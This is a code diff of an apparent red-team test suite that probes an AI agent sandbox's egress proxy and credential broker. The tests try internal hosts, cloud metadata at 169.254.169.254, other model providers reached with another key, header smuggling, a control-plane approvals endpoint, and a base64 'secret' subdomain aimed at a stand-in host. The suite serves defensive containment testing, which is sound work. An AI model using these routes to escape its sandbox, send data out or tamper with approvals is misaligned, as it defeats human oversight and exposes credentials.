@@ -88,7 +88,7 @@ def _passed(line: str) -> str | None:
     return None if int(words[1]) >= 400 else line
 
 
-def _asked(port: int, request: bytes) -> Callable[[], object]:
+def _send_request(port: int, request: bytes) -> Callable[[], object]:
     def act() -> object:
         try:
             return _passed(_say(port, request))
@@ -161,8 +161,8 @@ def inward(facts: Facts) -> str:
     for host in INWARD:
         for port in sorted(ports):
             at = f"{host}:{port}"
-            tries.append((f"CONNECT {at}", _asked(PROXY, _connect(at))))
-            tries.append((f"GET {at}", _asked(PROXY, _get(f"http://{at}/", at))))
+            tries.append((f"CONNECT {at}", _send_request(PROXY, _connect(at))))
+            tries.append((f"GET {at}", _send_request(PROXY, _get(f"http://{at}/", at))))
     return got(tries)
 
 
@@ -172,7 +172,7 @@ def ports(facts: Facts) -> str:
         raise Skipped("the network mode is full: any port of a public address is allowed")
     odd = ("github.com:22", "github.com:25", "github.com:0", "github.com:443x", "github.com",
            "github.com:65536", "github.com:-1", ":443")  # fmt: skip
-    return got((one, _asked(PROXY, _connect(one))) for one in odd)
+    return got((one, _send_request(PROXY, _connect(one))) for one in odd)
 
 
 def unlisted(facts: Facts) -> str:
@@ -181,14 +181,14 @@ def unlisted(facts: Facts) -> str:
         raise Skipped("the network mode is full")
     name = "c2VjcmV0.atoll-redteam.example"
     return got([
-        ("CONNECT", _asked(PROXY, _connect(f"{name}:443"))),
-        ("GET", _asked(PROXY, _get(f"http://{name}/", name))),
+        ("CONNECT", _send_request(PROXY, _connect(f"{name}:443"))),
+        ("GET", _send_request(PROXY, _get(f"http://{name}/", name))),
     ])  # fmt: skip
 
 
 def providers(_facts: Facts) -> str:
     """Reach a model provider through the egress door, with another key (threat 76)."""
-    return got((one, _asked(PROXY, _connect(f"{one}:443"))) for one in PROVIDERS)
+    return got((one, _send_request(PROXY, _connect(f"{one}:443"))) for one in PROVIDERS)
 
 
 def smuggling(_facts: Facts) -> str:
@@ -197,9 +197,9 @@ def smuggling(_facts: Facts) -> str:
     def tries() -> Iterator[tuple[str, Callable[[], object]]]:
         for name, more in CROOKED.items():
             plain = _get("http://github.com/", "github.com", more)
-            yield f"egress, {name}", _asked(PROXY, plain)
+            yield f"egress, {name}", _send_request(PROXY, plain)
             broker = _get("/broker/openai/v1/models", "127.0.0.1", more)
-            yield f"broker, {name}", _asked(BROKER, broker)
+            yield f"broker, {name}", _send_request(BROKER, broker)
 
     return got(tries())
 
@@ -231,12 +231,12 @@ def squatting(_facts: Facts) -> str:
 def broker_names(_facts: Facts) -> str:
     """Use other spellings of providers and secrets, and paths beyond inference (threat 89)."""
     tries = [
-        (name, _asked(BROKER, _get(f"/broker/{name}", "127.0.0.1")))
+        (name, _send_request(BROKER, _get(f"/broker/{name}", "127.0.0.1")))
         for name in (*NAMES, *MANAGEMENT)
     ]
     tries += [
-        ("CONNECT", _asked(BROKER, _connect("127.0.0.1:22"))),
-        ("absolute", _asked(BROKER, _get("http://169.254.169.254/", "169.254.169.254"))),
+        ("CONNECT", _send_request(BROKER, _connect("127.0.0.1:22"))),
+        ("absolute", _send_request(BROKER, _get("http://169.254.169.254/", "169.254.169.254"))),
     ]
     return got(tries)
 
@@ -252,8 +252,8 @@ def control_plane(facts: Facts) -> str:
     at = f"{host}:{port}"
     return got([
         ("straight", straight),
-        ("by the egress door", _asked(PROXY, _get(f"http://{at}/v1/approvals", at))),
-        ("by the broker", _asked(BROKER, _get("/v1/approvals", "127.0.0.1"))),
+        ("by the egress door", _send_request(PROXY, _get(f"http://{at}/v1/approvals", at))),
+        ("by the broker", _send_request(BROKER, _get("/v1/approvals", "127.0.0.1"))),
     ])  # fmt: skip
 
 
